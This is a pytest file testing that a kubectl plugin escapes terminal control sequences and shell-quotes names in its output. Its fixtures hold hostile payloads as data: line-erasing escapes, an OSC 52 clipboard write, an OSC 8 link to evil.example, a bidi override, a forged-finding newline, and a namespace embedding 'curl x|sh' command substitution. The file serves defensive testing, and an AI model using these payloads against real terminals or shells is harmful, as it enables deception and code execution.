"""Terminal injection through the installed executable: hostile names, labels and claims come out escaped.

A namespace named ``payments-prod\\r\\x1b[2K`` used to erase its own HIGH audit finding from the screen; OSC 52
(clipboard write) and OSC 8 (hyperlink) sequences and a right-to-left override passed through paths, audit,
can-reach, reach, can-i, permissions and whoami. Every text output must show them escaped, every name in a
suggested command must be shell-quoted, and json/yaml must keep the exact strings.
"""

from __future__ import annotations

import base64
import json
import os
import pty
import re
import shlex
import shutil
import subprocess
import sys
import time
import unicodedata
from pathlib import Path
from typing import Any

import pytest
import yaml

REPO = Path(__file__).resolve().parents[1]
EXE = shutil.which("kubectl-netsso") or str(Path(sys.executable).parent / "kubectl-netsso")
ISSUER = "https://idp.example.test"

EVIL_NS = "payments-prod\r\x1b[2K"  # returns to the start of the line and erases it
OSC52 = "\x1b]52;c;ZWNobyBvd25lZA==\x07"  # writes "echo owned" to the clipboard
OSC8 = "\x1b]8;;https://evil.example/\x1b\\here\x1b]8;;\x1b\\"  # a hyperlink to elsewhere
BIDI = "\u202eved"  # right-to-left override: displays reversed
HIDE = "\x1b[8m"  # concealed text
NEWLINE = "\nHIGH  fake-finding  namespace/none"
QUOTE_NS = "prod$(curl x|sh)"

API = "api" + OSC8
WEB = "web" + BIDI
POLICY = "allow" + HIDE
BINDING = "bind" + OSC52
ROLE = "role" + NEWLINE


def manifests() -> list[dict[str, Any]]:
    def deploy(ns: str, name: str, labels: dict[str, str], port: int = 8080) -> dict[str, Any]:
        template = {"metadata": {"labels": labels}, "spec": {"containers": [{"name": "c", "ports": [{"containerPort": port}]}]}}
        return {
            "apiVersion": "apps/v1",
            "kind": "Deployment",
            "metadata": {"name": name, "namespace": ns},
            "spec": {"template": template},
        }

    rbac = "rbac.authorization.k8s.io"
    return [
        {"apiVersion": "v1", "kind": "Namespace", "metadata": {"name": EVIL_NS, "labels": {"team": "pay" + OSC52}}},
        deploy(EVIL_NS, API, {"app": "api"}),
        {"apiVersion": "v1", "kind": "Namespace", "metadata": {"name": "front", "labels": {"team": "front"}}},
        deploy("front", WEB, {"app": "web" + NEWLINE}),
        deploy("front", "web", {"app": "web"}),
        # (endpoint arguments must be valid names: can-reach goes between plain ones, through hostile policies)
        {"apiVersion": "v1", "kind": "Namespace", "metadata": {"name": "other", "labels": {"team": "pay" + OSC52}}},
        deploy("other", "api", {"app": "api"}),
        # front's egress only to pods labelled app=api<OSC 52> in team=pay<OSC 52> namespaces: the api pods are app=api
        {"apiVersion": "networking.k8s.io/v1", "kind": "NetworkPolicy", "metadata": {"name": POLICY, "namespace": "front"},
         "spec": {"podSelector": {}, "policyTypes": ["Egress"],
                  "egress": [{"to": [{"namespaceSelector": {"matchLabels": {"team": "pay" + OSC52}},
                                      "podSelector": {"matchLabels": {"app": "api" + OSC52}}}]}]}},
        {"apiVersion": "v1", "kind": "Namespace", "metadata": {"name": QUOTE_NS}},
        deploy(QUOTE_NS, "job", {"app": "job"}),
        {"apiVersion": f"{rbac}/v1", "kind": "Role", "metadata": {"name": ROLE, "namespace": EVIL_NS},
         "rules": [{"apiGroups": [""], "resources": ["pods", "pods/exec"], "verbs": ["create", "get"]},
                   {"apiGroups": ["x.io"], "resources": ["widgets" + OSC52], "verbs": ["get"]}]},
        {"apiVersion": f"{rbac}/v1", "kind": "RoleBinding", "metadata": {"name": BINDING, "namespace": EVIL_NS},
         "roleRef": {"apiGroup": rbac, "kind": "Role", "name": ROLE},
         "subjects": [{"kind": "User", "name": "alice"}, {"kind": "Group", "name": "devs" + OSC8}]},
    ]  # fmt: skip


@pytest.fixture(scope="module")
def folder(tmp_path_factory: pytest.TempPathFactory) -> str:
    path = tmp_path_factory.mktemp("hostile") / "cluster.yaml"
    path.write_text(yaml.safe_dump_all(manifests(), sort_keys=False))
    return str(path)


@pytest.fixture()
def env(tmp_path: Path) -> dict[str, str]:
    e = {k: v for k, v in os.environ.items() if not k.startswith("NETSSO_")}
    e.update(HOME=str(tmp_path), KUBECONFIG=str(tmp_path / "no-kubeconfig"), NO_COLOR="1")
    return e


def run(env: dict[str, str], *args: str) -> subprocess.CompletedProcess[str]:
    p = subprocess.run([EXE, *args], env=env, capture_output=True, text=True, timeout=120)
    assert "Traceback" not in p.stderr and "internal error" not in p.stderr, p.stderr
    return p


UNSAFE_CATEGORIES = ("Cc", "Cf", "Cs", "Zl", "Zp")


def assert_escaped(text: str, *shown: str) -> None:
    """No character that could drive the terminal (judged by unicodedata, not by the code under test), and the
    hostile strings visible in their escaped form."""
    bad = sorted({repr(c) for c in text if c != "\n" and unicodedata.category(c) in UNSAFE_CATEGORIES})
    assert not bad, (bad, text)
    for s in shown:
        assert s in text, (s, text)


def esc(value: str) -> str:
    """How the output shows a hostile string (JSON-style escapes)."""
    out = []
    for c in value:
        if c in "\t\n\r":
            out.append({"\t": "\\t", "\n": "\\n", "\r": "\\r"}[c])
        elif unicodedata.category(c) in UNSAFE_CATEGORIES:
            out.append(f"\\u{ord(c):04x}")
        else:
            out.append(c)
    return "".join(out)


# --- every text renderer -------------------------------------------------------------------------------------------


@pytest.mark.parametrize("output", ["table", "wide", "matrix"])
def test_paths(env: dict[str, str], folder: str, output: str) -> None:
    p = run(env, "paths", "-A", "-o", output, "--manifests", folder)
    assert p.returncode == 0, p.stderr
    assert_escaped(p.stdout + p.stderr, esc(EVIL_NS), esc(API), esc(WEB))
    if output == "wide":
        assert esc(POLICY) in p.stdout


def test_paths_compact_and_external_rows(env: dict[str, str], folder: str) -> None:
    # the compact view and the rows for addresses outside the cluster have renderers of their own
    for args in (["paths", "-A", "--compact"], ["paths", "-A", "--compact", "--no-external"], ["paths", "-A"]):
        p = run(env, *args, "--manifests", folder)
        assert p.returncode == 0, (args, p.stderr)
        assert_escaped(p.stdout + p.stderr, esc(EVIL_NS))


@pytest.mark.parametrize("output", ["table", "wide"])
def test_audit_keeps_the_high_finding_of_a_namespace_that_erases_its_line(env: dict[str, str], folder: str, output: str) -> None:
    p = run(env, "audit", "-o", output, "--manifests", folder)
    assert p.returncode == 1, p.stderr
    assert_escaped(p.stdout + p.stderr, f"namespace/{esc(EVIL_NS)}")
    line = next(ln for ln in p.stdout.splitlines() if f"namespace/{esc(EVIL_NS)}" in ln and "no-network-policy" in ln)
    assert "HIGH" in line
    # the name's line feed does not start a fake finding of its own
    assert not any(ln.startswith("HIGH  fake-finding") for ln in p.stdout.splitlines())


def test_can_reach_explanation(env: dict[str, str], folder: str) -> None:
    p = run(env, "can-reach", "front/deploy/web", "other/deploy/api", "--port", "8080", "--manifests", folder)
    assert p.returncode == 1, p.stdout + p.stderr
    assert p.stdout.startswith("DENIED  front/deployment/web -> other/deployment/api on 8080/TCP")
    assert_escaped(p.stdout + p.stderr, f"NP front/{esc(POLICY)}", f"allows to pods with app={esc('api' + OSC52)}")
    # the minimal policy shown is YAML with YAML's own escapes: the exact labels once parsed
    fix = list(yaml.safe_load_all(p.stdout.split("(review before applying):", 1)[1]))
    assert fix[0]["metadata"]["namespace"] == "front"
    assert fix[0]["spec"]["egress"][0]["to"][0]["podSelector"]["matchLabels"] == {"app": "api"}


@pytest.mark.parametrize("output", ["table", "wide"])
def test_reach(env: dict[str, str], folder: str, output: str) -> None:
    p = run(env, "reach", "-A", "--as", "alice", "-o", output, "--manifests", folder)
    assert p.returncode == 0, p.stderr
    assert_escaped(p.stdout + p.stderr, esc(EVIL_NS))


@pytest.mark.parametrize("output", ["table", "wide"])
def test_can_i_reason_names_the_binding_escaped(env: dict[str, str], folder: str, output: str) -> None:
    p = run(env, "can-i", "create", "pods", "-n", EVIL_NS, "--as", "alice", "-o", output, "--manifests", folder)
    assert p.returncode == 0, p.stdout + p.stderr
    assert_escaped(p.stdout + p.stderr, esc(BINDING), esc(ROLE), esc(EVIL_NS))
    assert not any(ln.startswith("HIGH") for ln in p.stdout.splitlines())
    if output == "wide":  # the rule and the bindings that apply, one line each
        bound = [ln for ln in p.stdout.splitlines() if ln.startswith("  bound:")]
        assert len(bound) == 1 and esc(f"{EVIL_NS}/{BINDING}") in bound[0] and esc(ROLE) in bound[0], p.stdout


@pytest.mark.parametrize("extra", [[], ["-o", "wide"]])
def test_can_i_list(env: dict[str, str], folder: str, extra: list[str]) -> None:
    p = run(env, "can-i", "--list", *extra, "-n", EVIL_NS, "--as", "alice", "--manifests", folder)
    assert p.returncode == 0, p.stdout + p.stderr
    assert_escaped(p.stdout + p.stderr, esc("widgets" + OSC52))


@pytest.mark.parametrize("output", ["table", "wide"])
def test_permissions(env: dict[str, str], folder: str, output: str) -> None:
    p = run(env, "permissions", "-n", EVIL_NS, "--as", "alice", "--as-group", "devs" + OSC8, "-o", output, "--manifests", folder)
    assert p.returncode == 0, p.stderr
    assert_escaped(p.stdout + p.stderr, esc("widgets" + OSC52), esc("devs" + OSC8), esc(EVIL_NS))
    if output == "wide":  # the "granted by" column names the binding and the role
        assert esc(f"RoleBinding {EVIL_NS}/{BINDING} -> Role {EVIL_NS}/{ROLE}") in p.stdout, p.stdout
    assert not any(ln.startswith("HIGH") for ln in p.stdout.splitlines())


def fake_jwt(claims: dict[str, Any]) -> str:
    def seg(d: dict[str, Any]) -> str:
        return base64.urlsafe_b64encode(json.dumps(d).encode()).rstrip(b"=").decode()

    return f"{seg({'alg': 'RS256', 'kid': 'k'})}.{seg(claims)}.c2lnbmF0dXJl"


CLAIMS = {
    "iss": ISSUER,
    "aud": "netsso",
    "sub": "alice" + OSC52,
    "email": "alice@example.test" + EVIL_NS,
    "name": "Alice" + BIDI,
    "groups": ["devs" + OSC8, "ops" + NEWLINE],
}


def cache_token(cache_dir: Path) -> list[str]:
    from kubectl_netsso.auth.cache import open_cache
    from kubectl_netsso.auth.settings import ProviderSettings
    from kubectl_netsso.auth.tokens import TokenSet

    now = int(time.time())
    claims = {**CLAIMS, "iat": now, "exp": now + 3600}
    settings = ProviderSettings.from_values({"issuer_url": ISSUER, "client_id": "netsso", "token_cache_dir": str(cache_dir)})
    open_cache(settings).save(TokenSet(fake_jwt(claims), "refresh-secret-value", ISSUER, "netsso"))
    return ["--oidc-issuer-url", ISSUER, "--oidc-client-id", "netsso", "--token-cache-dir", str(cache_dir)]


def test_whoami_local_claims(env: dict[str, str], tmp_path: Path) -> None:
    flags = cache_token(tmp_path / "cache")
    p = run(env, "whoami", "--local", *flags)
    assert p.returncode == 0, p.stderr
    assert_escaped(
        p.stdout + p.stderr, *(esc(v) for v in ("alice" + OSC52, CLAIMS["email"], CLAIMS["name"], "devs" + OSC8, "ops" + NEWLINE))
    )
    assert not any(ln.startswith("HIGH") for ln in p.stdout.splitlines())
    j = json.loads(run(env, "whoami", "--local", *flags, "-o", "json").stdout)
    assert (j["local"]["subject"], j["local"]["email"], j["local"]["name"], j["local"]["groups"]) == (
        CLAIMS["sub"], CLAIMS["email"], CLAIMS["name"], CLAIMS["groups"],
    )  # fmt: skip


def test_can_i_with_the_cached_identity(env: dict[str, str], tmp_path: Path, folder: str) -> None:
    flags = cache_token(tmp_path / "cache")
    p = run(env, "can-i", "create", "pods", "-n", EVIL_NS, "--manifests", folder, *flags)
    assert_escaped(p.stdout + p.stderr, esc(CLAIMS["sub"]), esc("ops" + NEWLINE))
    assert not any(ln.startswith("HIGH") for ln in p.stdout.splitlines())


def test_near_miss_warning_and_its_flag(env: dict[str, str], tmp_path: Path, folder: str) -> None:
    """A binding naming the token's group with another prefix: the warning shows the names escaped, and the flag
    it suggests has the prefix shell-quoted."""
    prefix = QUOTE_NS + OSC52 + ":"
    rbac = "rbac.authorization.k8s.io"
    near = {"apiVersion": f"{rbac}/v1", "kind": "RoleBinding", "metadata": {"name": "near" + HIDE, "namespace": EVIL_NS},
            "roleRef": {"apiGroup": rbac, "kind": "Role", "name": ROLE},
            "subjects": [{"kind": "Group", "name": prefix + "devs" + OSC8}]}  # fmt: skip
    path = tmp_path / "near.yaml"
    path.write_text(yaml.safe_dump_all([*manifests(), near], sort_keys=False))
    flags = cache_token(tmp_path / "cache")
    p = run(env, "can-i", "create", "pods", "-n", EVIL_NS, "--manifests", str(path), *flags)
    assert_escaped(p.stdout + p.stderr, esc(f"{EVIL_NS}/near{HIDE}"))
    assert f"hint: pass --groups-prefix {esc(shlex.quote(prefix))} if" in p.stderr, p.stderr
    assert not any(ln.startswith("HIGH") for ln in (p.stdout + p.stderr).splitlines())
    # json keeps the flag exact: it parses back to the prefix
    (miss,) = json.loads(run(env, "can-i", "create", "pods", "-n", EVIL_NS, "-o", "json", "--manifests", str(path),
                             *flags).stdout)["nearMisses"]  # fmt: skip
    assert shlex.split(miss["flag"]) == ["--groups-prefix", prefix]


def test_policy_commands_print_hostile_labels_as_yaml_escapes(env: dict[str, str], tmp_path: Path) -> None:
    """policy allow selects pods by their labels: a label value with OSC 52 and a bidi override is written with
    YAML's own escapes (kubectl apply gets the exact value), never raw."""
    label = "x" + OSC52 + BIDI
    evil = {"apiVersion": "apps/v1", "kind": "Deployment", "metadata": {"name": "evil", "namespace": "front"},
            "spec": {"template": {"metadata": {"labels": {"app": label}},
                                  "spec": {"containers": [{"name": "c", "ports": [{"containerPort": 8080}]}]}}}}  # fmt: skip
    path = tmp_path / "evil.yaml"
    path.write_text(yaml.safe_dump_all([*manifests(), evil], sort_keys=False))
    p = run(env, "policy", "allow", "front/deploy/evil", "other/deploy/api", "--port", "8080", "--manifests", str(path))
    assert p.returncode == 0, p.stderr
    assert_escaped(p.stdout + p.stderr)
    selectors = [d["spec"]["podSelector"]["matchLabels"] for d in yaml.safe_load_all(p.stdout)]
    assert {"app": label} in selectors, selectors
    # and can-reach's text shows the same policy, its fix command parsing back to the endpoints
    p = run(env, "can-reach", "front/deploy/evil", "other/deploy/api", "--port", "8080", "--manifests", str(path))
    assert p.returncode == 1, p.stdout + p.stderr
    assert_escaped(p.stdout + p.stderr)
    fix = list(yaml.safe_load_all(p.stdout.split("(review before applying):", 1)[1]))
    assert {"app": label} in [d["spec"]["podSelector"]["matchLabels"] for d in fix if d]


def test_a_console_that_cannot_print_unicode(env: dict[str, str], folder: str) -> None:
    """PYTHONIOENCODING=ascii (ASCII symbols instead of the check marks): names are still escaped, nothing raw."""
    ascii_env = {**env, "PYTHONIOENCODING": "ascii"}
    for args in (["audit"], ["permissions", "-n", EVIL_NS, "--as", "alice"], ["paths", "-A", "-o", "wide"]):
        p = subprocess.run([EXE, *args, "--manifests", folder], env=ascii_env, capture_output=True, timeout=120)
        assert b"Traceback" not in p.stderr, p.stderr
        out = (p.stdout + p.stderr).decode("ascii")  # every byte ASCII
        assert_escaped(out, esc(EVIL_NS))
        assert not any(ln.startswith("HIGH  fake-finding") for ln in out.splitlines())


def test_warnings_and_errors(env: dict[str, str], tmp_path: Path) -> None:
    path = tmp_path / "x.yaml"
    # an object without a namespace: the warning names it
    path.write_text(yaml.safe_dump({"apiVersion": "v1", "kind": "Pod", "metadata": {"name": "p" + OSC52}, "spec": {}}))
    p = run(env, "paths", "-A", "--manifests", str(path))
    assert p.returncode == 0, p.stderr
    assert_escaped(p.stdout + p.stderr, esc("p" + OSC52))
    # an argument that is no name: one error line (a usage error)
    p = run(env, "can-reach", "x" + EVIL_NS, "default/p", "--port", "80", "--manifests", str(path))
    assert p.returncode == 2
    assert_escaped(p.stdout + p.stderr)
    assert len([ln for ln in p.stderr.splitlines() if ln.startswith("error: ")]) == 1
    # an object the API server would reject, in a file whose name is hostile too: one warning line (the name's line
    # feed adds none), and audit's invalid-manifest finding starts no fake finding
    bad = tmp_path / ("bad" + BIDI + ".yaml")
    bad.write_text(yaml.safe_dump({"apiVersion": "v1", "kind": "Pod", "metadata": {"name": "a" + NEWLINE, "labels": {"k": 1}}}))
    p = run(env, "paths", "-A", "--manifests", str(bad))
    assert p.returncode == 0, p.stderr
    assert_escaped(p.stderr, esc(str(bad)), esc("a" + NEWLINE))
    assert len(p.stderr.strip().splitlines()) == 1, p.stderr
    p = run(env, "audit", "--manifests", str(bad))
    assert p.returncode == 1, p.stderr
    assert_escaped(p.stdout + p.stderr, f"invalid-manifest  pod/default/{esc('a' + NEWLINE)}", esc(str(bad)))
    assert not any(ln.startswith("HIGH  fake-finding") for ln in p.stdout.splitlines())


# --- machine formats keep the exact strings ---------------------------------------------------------------------------


@pytest.mark.parametrize("fmt", ["json", "yaml"])
def test_machine_formats_keep_exact_strings(env: dict[str, str], folder: str, tmp_path: Path, fmt: str) -> None:
    load = json.loads if fmt == "json" else yaml.safe_load
    runs = {
        "paths": run(env, "paths", "-A", "-o", fmt, "--manifests", folder),
        "audit": run(env, "audit", "-o", fmt, "--manifests", folder),
        "reach": run(env, "reach", "-A", "--as", "alice", "-o", fmt, "--manifests", folder),
        "can-i": run(env, "can-i", "create", "pods", "-n", EVIL_NS, "--as", "alice", "-o", fmt, "--manifests", folder),
        "permissions": run(env, "permissions", "-n", EVIL_NS, "--as", "alice", "-o", fmt, "--manifests", folder),
        "whoami": run(env, "whoami", "--local", *cache_token(tmp_path / "cache"), "-o", fmt),
        "can-reach": run(env, "can-reach", "front/deploy/web", "other/deploy/api", "--port", "8080",
                         "-o", fmt, "--manifests", folder),
    }  # fmt: skip
    docs = {name: load(p.stdout) for name, p in runs.items()}
    for p in runs.values():
        # terminal-safe as well: escapes in the format's own syntax, not raw control characters
        assert_escaped(p.stdout)
    assert {r["from"] for r in docs["paths"]["paths"]} >= {f"{EVIL_NS}/deployment/{API}", f"front/deployment/{WEB}"}
    assert f"namespace/{EVIL_NS}" in {f["object"] for f in docs["audit"]["findings"]}
    assert any(BINDING in s and ROLE in s for s in strings(docs["can-i"]))
    assert any("widgets" + OSC52 in s for s in strings(docs["permissions"]))
    assert docs["whoami"]["local"]["groups"] == CLAIMS["groups"]
    assert any(EVIL_NS in s for s in strings(docs["reach"]))
    assert any(POLICY in s for s in strings(docs["can-reach"]))


def strings(doc: Any) -> list[str]:
    """Every string in a parsed document, keys included."""
    if isinstance(doc, str):
        return [doc]
    if isinstance(doc, dict):
        return [s for k, v in doc.items() for s in strings(k) + strings(v)]
    if isinstance(doc, list):
        return [s for v in doc for s in strings(v)]
    return []


# --- suggested commands quote every name ------------------------------------------------------------------------------


def test_every_suggested_command_quotes_the_namespace(env: dict[str, str], tmp_path: Path) -> None:
    docs = manifests() + [
        {"apiVersion": "networking.k8s.io/v1", "kind": "NetworkPolicy",
         "metadata": {"name": "deny-egress", "namespace": QUOTE_NS},
         "spec": {"podSelector": {"matchLabels": {"app": "job"}}, "policyTypes": ["Egress"]}},
    ]  # fmt: skip
    path = tmp_path / "q.yaml"
    path.write_text(yaml.safe_dump_all(docs, sort_keys=False))
    quoted = shlex.quote(QUOTE_NS)
    assert quoted == "'prod$(curl x|sh)'"
    p = run(env, "audit", "-o", "json", "--manifests", str(path))
    found = [f for f in json.loads(p.stdout)["findings"] if f["object"].startswith(("namespace/" + QUOTE_NS, QUOTE_NS))]
    hints = {f["check"]: f["hint"] for f in found}
    assert set(hints) == {"no-default-deny-ingress", "no-default-deny-egress", "dns-egress-denied"}, hints
    for f in found:
        # the command in the hint is the one in details.command, and it parses back to the exact namespace
        command = f["details"]["command"]
        assert command in f["hint"] and f"-n {quoted}" in command and f"-n {QUOTE_NS}" not in f["hint"], f
        words = shlex.split(command)
        assert words[:3] == ["kubectl", "netsso", "policy"] and words[words.index("-n") + 1] == QUOTE_NS, words
    (path.parent / "only-job.yaml").write_text(
        yaml.safe_dump_all(
            [d for d in manifests() if QUOTE_NS in (d["metadata"]["name"], d["metadata"].get("namespace"))], sort_keys=False
        )
    )
    p = run(env, "audit", "--manifests", str(path.parent / "only-job.yaml"))
    assert f"kubectl netsso policy default-deny -n {quoted} --allow-dns" in p.stdout
    # endpoint hints: the name exists in another namespace; no such name here
    p = run(env, "can-reach", "job", "front/deploy/web", "--port", "80", "-n", "front", "--manifests", str(path))
    assert f"use {shlex.quote(QUOTE_NS + '/job')} or -n {quoted}" in p.stderr, p.stderr


# --- the tool's own colours on a terminal -----------------------------------------------------------------------------


def run_on_tty(env: dict[str, str], *args: str) -> str:
    """Run with stdout and stderr on a pseudo-terminal, colour allowed (no NO_COLOR)."""
    tty_env = {k: v for k, v in env.items() if k != "NO_COLOR"}
    tty_env["TERM"] = "xterm-256color"
    main, secondary = pty.openpty()
    proc = subprocess.Popen([EXE, *args], env=tty_env, stdin=subprocess.DEVNULL, stdout=secondary, stderr=secondary)
    os.close(secondary)
    chunks = []
    while True:
        try:
            data = os.read(main, 65536)
        except OSError:  # EIO: the child closed the terminal
            break
        if not data:
            break
        chunks.append(data)
    proc.wait(timeout=120)
    os.close(main)
    return b"".join(chunks).decode("utf-8").replace("\r\n", "\n")


SGR = re.compile(r"\x1b\[[0-9;]*m")


@pytest.mark.parametrize(
    "args",
    [
        ["paths", "-A"],
        ["audit"],
        ["can-i", "create", "pods", "-n", EVIL_NS, "--as", "alice"],
        ["permissions", "-n", EVIL_NS, "--as", "alice"],
        ["can-reach", "front/deploy/web", "other/deploy/api", "--port", "8080"],
    ],
    ids=["paths", "audit", "can-i", "permissions", "can-reach"],
)
def test_colours_still_work_on_a_terminal(env: dict[str, str], folder: str, args: list[str]) -> None:
    out = run_on_tty(env, *args, "--manifests", folder)
    assert SGR.search(out), out  # the tool's colours are there
    # and they are the only escape sequences: nothing else survives once they are taken out
    assert_escaped(SGR.sub("", out), esc(POLICY) if args[0] == "can-reach" else esc(EVIL_NS))
    assert "\x00" not in out


def test_table_columns_align_with_colours(env: dict[str, str], folder: str) -> None:
    out = run_on_tty(env, "permissions", "-n", EVIL_NS, "--as", "alice", "--manifests", folder)
    rows = [SGR.sub("", ln) for ln in out.splitlines() if ln and not ln.startswith("#")]
    header = rows[0]
    at = header.index("RISKY")
    assert all(len(r) <= at or r[at - 2 : at] == "  " for r in rows[1:]), rows


# --- text from the provider ---------------------------------------------------------------------------------------


def test_device_login_prints_the_providers_user_code_escaped(tmp_path: Path) -> None:
    """The device flow shows the provider's user_code and verification URI: escaped by the same function as the rest
    (visibly, not as '?'), one line, through log's writer."""
    from test_auth_support import FakeOP, PluginRunner

    code = "ABCD" + OSC52 + NEWLINE
    with FakeOP() as op:
        op.device_interval = 1
        original = op._handler()

        class Hostile(original):  # type: ignore[misc, valid-type]
            def _json(self, status: int, body: Any, headers: dict[str, str] | None = None) -> None:
                if isinstance(body, dict) and "device_code" in body:
                    body = dict(body, user_code=code)
                    body.pop("verification_uri_complete")
                super()._json(status, body, headers)

        op.server.RequestHandlerClass = Hostile
        p = PluginRunner(op, tmp_path).run("login", env={"NETSSO_GRANT_TYPE": "device-code"})
    assert p.returncode == 0, p.stderr
    assert_escaped(p.stdout + p.stderr, f"and enter the user code: {esc(code)}")
    assert not any(ln.startswith("HIGH") for ln in p.stderr.splitlines())
